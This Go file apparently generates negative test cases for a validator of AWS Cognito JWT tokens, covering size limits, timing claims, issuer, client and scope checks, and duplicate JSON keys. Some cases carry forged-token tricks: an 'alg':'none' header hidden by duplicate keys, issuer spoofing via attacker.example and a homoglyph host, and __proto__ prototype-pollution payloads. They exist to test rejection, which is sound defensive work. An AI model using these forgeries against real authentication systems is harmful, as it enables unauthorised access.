// sized builds a token of exactly n bytes by padding a custom claim (and, to reach
// lengths base64 cannot, a header parameter).
func (g *gen) sized(n int, inHeader bool) string {
	build := func(hdr obj, pad int) string {
		if inHeader {
			return jws(hdr.with("x-pad", strings.Repeat("p", pad)), g.machineAccess(clientA), g.signAccess())
		}
		return jws(hdr, g.machineAccess(clientA).with("x-pad", strings.Repeat("p", pad)), g.signAccess())
	}
	for extra := 0; extra < 4; extra++ {
		hdr := g.accessHeader()
		if extra > 0 {
			hdr = hdr.with("x-adj", strings.Repeat("h", extra))
		}
		// Each padding byte adds 4/3 of a character: start a little short of n.
		start := max((n-len(build(hdr, 0)))*3/4-4, 0)
		for pad := start; pad < start+16; pad++ {
			t := build(hdr, pad)
			if len(t) == n {
				return t
			}
			if len(t) > n {
				break
			}
		}
	}
	panic(fmt.Sprintf("no token of exactly %d bytes", n))
}

func (g *gen) sizes() {
	const grp = "size"
	const limit = 16 << 10
	g.add(tc{name: "token of exactly 16 KiB", group: grp, token: g.sized(limit, false)})
	g.add(tc{name: "token of 16 KiB and one byte", group: grp, token: g.sized(limit+1, false), reason: rTooLarge})
	g.add(tc{name: "token of about 20 KiB", group: grp, token: g.access("x-pad", strings.Repeat("p", 14<<10)), reason: rTooLarge})
	g.add(tc{name: "header of 12 KiB in a token under the limit", group: grp, token: g.sized(limit-100, true)})
	g.add(tc{name: "header of 17 KiB", group: grp, token: g.header("x-pad", strings.Repeat("p", 13<<10)), reason: rTooLarge})
	g.add(tc{name: "15,000 dots", group: grp, token: strings.Repeat(".", 15000), reason: rMalformed})
	g.add(tc{name: "20,000 dots", group: grp, token: strings.Repeat(".", 20000), reason: rTooLarge})
	g.add(tc{name: "17 KiB of base64url letters", group: grp, token: strings.Repeat("A", 17<<10), reason: rTooLarge})
}

func (g *gen) expiry() {
	const grp = "claims/exp"
	n := g.now
	for _, v := range []struct {
		name   string
		exp    any
		want   string
		config string
	}{
		{"exp missing", del, rMissingClaim, ""},
		{"exp null", nil, rMalformed, ""},
		{"exp a numeric string", strconv.FormatInt(n+3600, 10), rMalformed, ""},
		{"exp true", true, rMalformed, ""},
		{"exp an array", []int64{n + 3600}, rMalformed, ""},
		{"exp an object", obj{{"t", n + 3600}}, rMalformed, ""},
		{"exp negative", -1, rMalformed, ""},
		{"exp zero", 0, rExpired, ""},
		{"exp 1e300", rawJSON("1e300"), rMalformed, ""},
		{"exp one second past year 9999", farFuture + 1, rMalformed, ""},
		{"exp 1e400 (not a float64)", rawJSON("1e400"), rMalformed, ""},
		{"exp = now - leeway - 1", n - leeway - 1, rExpired, ""},
		{"exp = now - leeway", n - leeway, ok, ""},
		{"exp = now - leeway + 1", n - leeway + 1, ok, ""},
		{"exp = now - leeway - 0.5", rawJSON(strconv.FormatInt(n-leeway-1, 10) + ".5"), rExpired, ""},
		{"exp = now - leeway + 0.5", rawJSON(strconv.FormatInt(n-leeway, 10) + ".5"), ok, ""},
		{"exp = now", n, ok, ""},
		{"exp an hour ago", n - 3600, rExpired, ""},
		{"no leeway: exp = now - 1", n - 1, rExpired, cfgNoLeeway},
		{"no leeway: exp = now", n, ok, cfgNoLeeway},
		{"no leeway: exp = now + 1", n + 1, ok, cfgNoLeeway},
	} {
		g.add(tc{name: v.name, group: grp, config: v.config, token: g.access("exp", v.exp), reason: v.want})
	}
}

func (g *gen) notBefore() {
	const grp = "claims/nbf"
	n := g.now
	for _, v := range []struct {
		name   string
		nbf    any
		want   string
		config string
	}{
		{"nbf = now + leeway + 1", n + leeway + 1, rNotYetValid, ""},
		{"nbf = now + leeway", n + leeway, ok, ""},
		{"nbf = now + leeway - 1", n + leeway - 1, ok, ""},
		{"nbf = now + leeway + 0.5", rawJSON(strconv.FormatInt(n+leeway, 10) + ".5"), rNotYetValid, ""},
		{"nbf = now", n, ok, ""},
		{"nbf in a year", n + 365*86400, rNotYetValid, ""},
		{"nbf a numeric string", strconv.FormatInt(n, 10), rMalformed, ""},
		{"nbf null", nil, rMalformed, ""},
		{"nbf negative", -1, rMalformed, ""},
		{"nbf past year 9999", farFuture + 1, rMalformed, ""},
		{"no leeway: nbf = now + 1", n + 1, rNotYetValid, cfgNoLeeway},
		{"no leeway: nbf = now", n, ok, cfgNoLeeway},
	} {
		g.add(tc{name: v.name, group: grp, config: v.config, token: g.access("nbf", v.nbf), reason: v.want})
	}
	g.add(tc{name: "nbf in a year on a token valid until 9999", group: grp, reason: rNotYetValid,
		token: g.access("nbf", n+365*86400, "exp", farFuture)})
}

func (g *gen) issuedAt() {
	const grp = "claims/iat"
	n := g.now
	for _, v := range []struct {
		name   string
		iat    any
		want   string
		config string
	}{
		{"iat = now + leeway + 1", n + leeway + 1, rFutureIat, ""},
		{"iat = now + leeway", n + leeway, ok, ""},
		{"iat a day ahead", n + 86400, rFutureIat, ""},
		{"iat a numeric string", strconv.FormatInt(n, 10), rMalformed, ""},
		{"iat negative", -1, rMalformed, ""},
		{"iat zero", 0, ok, ""},
		{"no leeway: iat = now + 1", n + 1, rFutureIat, cfgNoLeeway},
	} {
		g.add(tc{name: v.name, group: grp, config: v.config, token: g.access("iat", v.iat), reason: v.want})
	}
	g.add(tc{name: "auth_time a string", group: grp, token: g.access("auth_time", "yesterday"), reason: rMalformed})
	g.add(tc{name: "auth_time in the future", group: grp, token: g.access("auth_time", n+86400),
		note: "auth_time is read, not checked"})
}

func (g *gen) subject() {
	const grp = "claims/sub"
	for _, v := range []struct {
		name string
		sub  any
		want string
	}{
		{"sub missing", del, rMissingClaim},
		{"sub empty", "", rMissingClaim},
		{"sub a number", 12345, rMalformed},
		{"sub null", nil, rMalformed},
		{"sub an array", []string{clientA}, rMalformed},
		{"sub of another client", clientB, ok},
	} {
		g.add(tc{name: v.name, group: grp, token: g.access("sub", v.sub), reason: v.want})
	}
}

func (g *gen) issuers() {
	const grp = "claims/iss"
	pool := poolID
	for _, v := range []struct {
		name string
		iss  any
		want string
	}{
		{"iss missing", del, rIssuer},
		{"iss null", nil, rIssuer},
		{"iss empty", "", rIssuer},
		{"iss a number", 42, rMalformed},
		{"iss an array holding the issuer", []string{g.issuer}, rMalformed},
		{"iss with a trailing slash", g.issuer + "/", rIssuer},
		{"iss over http", "http://cognito-idp." + region + ".amazonaws.com/" + pool, rIssuer},
		{"iss of another region", "https://cognito-idp.us-west-2.amazonaws.com/" + pool, rIssuer},
		{"iss of another pool", "https://cognito-idp." + region + ".amazonaws.com/us-east-1_0therPool", rIssuer},
		{"iss with the pool ID in lower case", "https://cognito-idp." + region + ".amazonaws.com/" + strings.ToLower(pool), rIssuer},
		{"iss with a Cyrillic o in the host", "https://cognito-idp." + region + ".amazоnaws.com/" + pool, rIssuer},
		{"iss with a fullwidth solidus", "https://cognito-idp." + region + ".amazonaws.com／" + pool, rIssuer},
		{"iss with the host in upper case", "https://COGNITO-IDP." + strings.ToUpper(region) + ".AMAZONAWS.COM/" + pool, rIssuer},
		{"iss with the default port", "https://cognito-idp." + region + ".amazonaws.com:443/" + pool, rIssuer},
		{"iss with the JWKS path", g.issuer + "/.well-known/jwks.json", rIssuer},
		{"iss with a query", g.issuer + "?x=1", rIssuer},
		{"iss with a fragment", g.issuer + "#x", rIssuer},
		{"iss with a percent-encoded underscore", "https://cognito-idp." + region + ".amazonaws.com/us-east-1%5FC0rpus0Pool", rIssuer},
		{"iss with a double slash", "https://cognito-idp." + region + ".amazonaws.com//" + pool, rIssuer},
		{"iss on an attacker host with the real host as a prefix", "https://cognito-idp." + region + ".amazonaws.com.attacker.example/" + pool, rIssuer},
		{"iss with user info", "https://cognito-idp." + region + ".amazonaws.com@attacker.example/" + pool, rIssuer},
		{"iss without the region", "https://cognito-idp.amazonaws.com/" + pool, rIssuer},
		{"iss issuer-cognito-idp of another region", "https://issuer-cognito-idp.us-west-2.amazonaws.com/" + pool, rIssuer},
		{"iss with a trailing space", g.issuer + " ", rIssuer},
		{"iss with a trailing NUL", g.issuer + "\x00", rIssuer},
		{"iss of cognito-identity", "https://cognito-identity.amazonaws.com", rIssuer},
	} {
		g.add(tc{name: v.name, group: grp, token: g.access("iss", v.iss), reason: v.want})
	}
}

func (g *gen) tokenUse() {
	const grp = "claims/token_use"
	for _, v := range []struct {
		name, config string
		use          any
		want         string
	}{
		{"token_use missing", "", del, rTokenUse},
		{"token_use refresh, any config", cfgAny, "refresh", rTokenUse},
		{"token_use a number", "", 1, rMalformed},
		{"token_use null", "", nil, rMalformed},
		{"token_use Access", "", "Access", rTokenUse},
		{"token_use with a trailing space", "", "access ", rTokenUse},
		{"token_use an array", "", []string{"access"}, rMalformed},
	} {
		g.add(tc{name: v.name, group: grp, config: v.config, token: g.access("token_use", v.use), reason: v.want})
	}
	g.add(tc{name: "ID token where access tokens are required", group: grp, token: g.idToken(g.idClaims(clientA)), reason: rTokenUse})
	g.add(tc{name: "access token where ID tokens are required", group: grp, config: cfgID, token: g.access(), reason: rTokenUse})
	g.add(tc{name: "ID token relabelled access", group: grp, token: g.idToken(g.idClaims(clientA).with("token_use", "access")),
		reason: rClient, note: "an access token is checked on client_id, which ID tokens lack"})
	g.add(tc{name: "access token relabelled id", group: grp, config: cfgID, token: g.access("token_use", "id"),
		reason: rClient, note: "an ID token is checked on aud, which access tokens lack"})
}

func (g *gen) clients() {
	const grp = "claims/client_id"
	for _, v := range []struct {
		name, config string
		id           any
		want         string
	}{
		{"client_id of another client", "", clientB, rClient},
		{"client_id missing", "", del, rClient},
		{"client_id a number", "", 1, rMalformed},
		{"client_id an array holding the client", "", []string{clientA}, rMalformed},
		{"client_id null", "", nil, rMalformed},
		{"client_id in upper case", "", strings.ToUpper(clientA), rClient},
		{"client_id with a trailing space", "", clientA + " ", rClient},
		{"client_id empty", "", "", rClient},
		{"client_id a prefix of the client", "", clientA[:10], rClient},
		{"client_id of a third client, two allowed", cfgMulti, clientC, rClient},
	} {
		g.add(tc{name: v.name, group: grp, config: v.config, token: g.access("client_id", v.id), reason: v.want})
	}
	g.add(tc{name: "aud of the client but no client_id", group: grp, token: g.access("client_id", del, "aud", clientA), reason: rClient})
	g.add(tc{name: "client_id only inside __proto__", group: grp, reason: rClient,
		token: g.access("client_id", del, "__proto__", obj{{"client_id", clientA}})})
}

func (g *gen) audiences() {
	const grp = "claims/aud"
	for _, v := range []struct {
		name string
		aud  any
		want string
	}{
		{"ID token aud of another client", clientB, rClient},
		{"ID token aud array without the client", []string{clientB, clientC}, rClient},
		{"ID token aud empty array", []string{}, rClient},
		{"ID token aud empty string", "", rClient},
		{"ID token aud a number", 1, rMalformed},
		{"ID token aud array holding a number", []any{clientA, 1}, rMalformed},
		{"ID token aud an object", obj{{"client", clientA}}, rMalformed},
		{"ID token aud null", nil, rMalformed},
		{"ID token aud in upper case", strings.ToUpper(clientA), rClient},
		{"ID token aud missing", del, rClient},
	} {
		g.add(tc{name: v.name, group: grp, config: cfgID, token: g.idToken(g.idClaims(clientA).with("aud", v.aud)), reason: v.want})
	}
	g.add(tc{name: "ID token without aud but with client_id", group: grp, config: cfgID, reason: rClient,
		token: g.idToken(g.idClaims(clientA).with("aud", del, "client_id", clientA))})
}

func (g *gen) scopes() {
	const grp = "claims/scope"
	for _, v := range []struct {
		name  string
		scope any
		want  string
	}{
		{"scope without a required one", "orders/read", rScope},
		{"scope missing", del, rScope},
		{"scope empty", "", rScope},
		{"scope longer than a required one", "orders/write2", rScope},
		{"scope in other case", "Orders/Write", rScope},
		{"scopes separated by a tab", "orders/read\torders/write", rScope},
		{"scopes separated by a newline", "orders/read\norders/admin", rScope},
		{"scopes separated by a non-breaking space", "orders/read\u00a0orders/write", rScope},
		{"scopes separated by a comma", "orders/read,orders/write", rScope},
		{"scope an array", []string{"orders/write"}, rMalformed},
		{"scope null", nil, rMalformed},
	} {
		g.add(tc{name: v.name, group: grp, config: cfgScopes, token: g.accessToken(g.machineAccess(clientB).with("scope", v.scope)), reason: v.want})
	}
}

func (g *gen) groups() {
	const grp = "claims/cognito:groups"
	for _, v := range []struct {
		name   string
		groups any
		want   string
	}{
		{"groups without a required one", []string{"readers"}, rGroup},
		{"groups in other case", []string{"Admin"}, rGroup},
		{"groups empty", []string{}, rGroup},
		{"groups a string", "admin", rMalformed},
		{"groups holding a number", []any{"admin", 1}, rMalformed},
		{"groups null", nil, rMalformed},
	} {
		g.add(tc{name: v.name, group: grp, config: cfgGroups,
			token: g.accessToken(g.userAccess(clientC).with("cognito:groups", v.groups)), reason: v.want})
	}
	g.add(tc{name: "machine token has no groups", group: grp, config: cfgGroups, token: g.accessToken(g.machineAccess(clientC)), reason: rGroup})
}

func (g *gen) claimTypes() {
	const grp = "claims/types"
	g.add(tc{name: "username a number", group: grp, token: g.accessToken(g.userAccess(clientA).with("username", 7)), reason: rMalformed})
	g.add(tc{name: "jti a number", group: grp, token: g.access("jti", 7), reason: rMalformed})
	for _, v := range []struct {
		name, claim string
		value       any
	}{
		{"cognito:username a number", "cognito:username", 7},
		{"email a number", "email", 7},
		{"name a boolean", "name", true},
		{"email_verified a number", "email_verified", 1},
		{"email_verified the string yes", "email_verified", "yes"},
	} {
		g.add(tc{name: v.name, group: grp, config: cfgID, token: g.idToken(g.idClaims(clientA).with(v.claim, v.value)), reason: rMalformed})
	}
}

func (g *gen) duplicates() {
	const grp = "json"
	kid := string(enc(g.kidAccess))
	payload := string(enc(g.machineAccess(clientA)))
	body := payload[1 : len(payload)-1]
	sp := g.signAccess()
	g.add(tc{name: "duplicate alg, RS256 last", group: grp, token: jws(`{"alg":"none","kid":`+kid+`,"alg":"RS256"}`, payload, sp),
		note: "the last of duplicate names counts (RFC 7515 §4 allows that reading)"})
	g.add(tc{name: "duplicate alg, none last", group: grp, token: jws(`{"alg":"RS256","kid":`+kid+`,"alg":"none"}`, payload, sp), reason: rAlg})
	g.add(tc{name: "duplicate kid, the pool's last", group: grp, token: jws(`{"kid":"`+kidAbsent+`","alg":"RS256","kid":`+kid+`}`, payload, sp)})
	g.add(tc{name: "duplicate kid, an unknown one last", group: grp, token: jws(`{"kid":`+kid+`,"alg":"RS256","kid":"`+kidAbsent+`"}`, payload, sp), reason: rUnknownKey})
	g.add(tc{name: "duplicate crit, null first", group: grp, token: jws(`{"crit":null,"kid":`+kid+`,"alg":"RS256","crit":["exp"]}`, payload, sp), reason: rHeader})
	dup := func(name string, first, last any) string {
		return `{` + string(enc(name)) + `:` + string(enc(first)) + `,` + body + `,` + string(enc(name)) + `:` + string(enc(last)) + `}`
	}
	g.add(tc{name: "duplicate client_id, the allowed one last", group: grp, token: jws(g.accessHeader(), dup("client_id", clientB, clientA), sp)})
	g.add(tc{name: "duplicate client_id, another last", group: grp, token: jws(g.accessHeader(), dup("client_id", clientA, clientB), sp), reason: rClient})
	g.add(tc{name: "duplicate iss, the pool's last", group: grp, token: jws(g.accessHeader(), dup("iss", "https://attacker.example/"+poolID, g.issuer), sp)})
	g.add(tc{name: "duplicate iss, an attacker's last", group: grp, token: jws(g.accessHeader(), dup("iss", g.issuer, "https://attacker.example/"+poolID), sp), reason: rIssuer})
	g.add(tc{name: "duplicate exp, a past one last", group: grp, token: jws(g.accessHeader(), dup("exp", g.now+3600, g.now-3600), sp), reason: rExpired})
	g.add(tc{name: "duplicate exp, a future one last", group: grp, token: jws(g.accessHeader(), dup("exp", g.now-3600, g.now+3600), sp)})
	g.add(tc{name: "duplicate token_use, id last", group: grp, token: jws(g.accessHeader(), dup("token_use", "access", "id"), sp), reason: rTokenUse})
	g.add(tc{name: "__proto__ object in the payload", group: grp, token: g.access("__proto__", obj{{"admin", true}, {"iss", "https://attacker.example"}})})
	g.add(tc{name: "constructor key in the payload", group: grp, token: g.access("constructor", obj{{"prototype", obj{{"admin", true}}}})})
	g.add(tc{name: "__proto__ in the header", group: grp, token: g.header("__proto__", obj{{"alg", "none"}})})
	g.add(tc{name: "Exp in other case does not stand in for exp", group: grp, token: g.access("exp", del, "Exp", g.now+3600), reason: rMissingClaim})
	g.add(tc{name: "ISS in other case does not stand in for iss", group: grp, token: g.access("iss", del, "ISS", g.issuer), reason: rIssuer})
}
